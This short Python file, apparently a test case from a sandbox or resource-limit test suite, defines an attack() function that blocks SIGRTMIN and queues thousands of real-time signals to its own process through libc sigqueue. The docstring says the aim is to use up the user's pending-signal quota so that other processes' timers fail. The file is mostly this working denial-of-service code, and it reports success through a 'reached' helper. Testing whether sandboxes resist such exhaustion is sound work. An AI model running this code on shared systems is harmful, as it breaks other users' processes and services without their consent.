"""queues signals to itself until the user has none left, so that timers of others fail"""

import ctypes
import os
import signal


def attack():
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
    libc = ctypes.CDLL(None)
    queued = 0
    while queued < 8192 and libc.sigqueue(os.getpid(), int(signal.SIGRTMIN), None) == 0:
        queued += 1
    if queued > 4096:
        reached(f"{queued} signals wait")
